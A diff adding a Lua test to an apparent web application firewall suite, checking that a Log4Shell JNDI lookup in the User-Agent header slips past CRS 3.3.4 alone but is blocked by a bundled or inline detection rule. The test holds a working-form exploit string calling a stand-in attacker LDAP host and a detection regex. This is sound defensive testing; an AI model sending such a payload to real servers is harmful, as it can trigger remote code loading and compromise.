@@ -599,6 +599,31 @@ describe("GraphQL string escapes and XML bodies (CRS)", function()
   end)
 end)
 
+describe("Log4Shell in headers beside CRS 3.3.4 (docs/plugins/waf.md, \"Beside CRS\")", function()
+  before_each(function() T.reset() end)
+
+  it("passes CRS alone; the bundled java.lua or an inline Lua rule beside it refuses it", function()
+    local function ua_lookup(c)
+      local req = T.request({ uri = "/", headers = headers({ ["User-Agent"] = "${jndi:ldap://attacker.example/a}" }) })
+      return T.phase(waf, "request", req, c), req
+    end
+    -- (PCRE2 alone: the same verdicts, no Hyperscan compile per config)
+    for _, pl in ipairs({ 1, 2 }) do
+      assert.is_false(ua_lookup(T.conf(waf, { crs = CRS, paranoia = pl, hyperscan = false })), "PL" .. pl)
+    end
+    local refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false,
+      rule_files = { "plugins/waf/rules/java.lua" } }))
+    assert.is_true(refused)
+    assert.are.same({ 1601, "headers:user-agent" }, { req.ctx.waf.matches[1].id, req.ctx.waf.matches[1].var })
+    refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false, rules = { {
+      id = 100001, msg = "Log4Shell lookup in a header", severity = "critical",
+      targets = { "headers" }, transforms = { "urldecode", "lowercase" }, rx = [[\$\{\s*jndi\s*:]] } } }))
+    assert.is_true(refused)
+    assert.are.equal(100001, req.ctx.waf.matches[1].id)
+    assert.matches("waf: blocked GET / (score 5): 100001 headers:user-agent", T.logs[#T.logs].message, 1, true)
+  end)
+end)
+
 describe("confirmers (crs_confirm)", function()
   local confirm = require "luaproxy.waf.confirm"
 
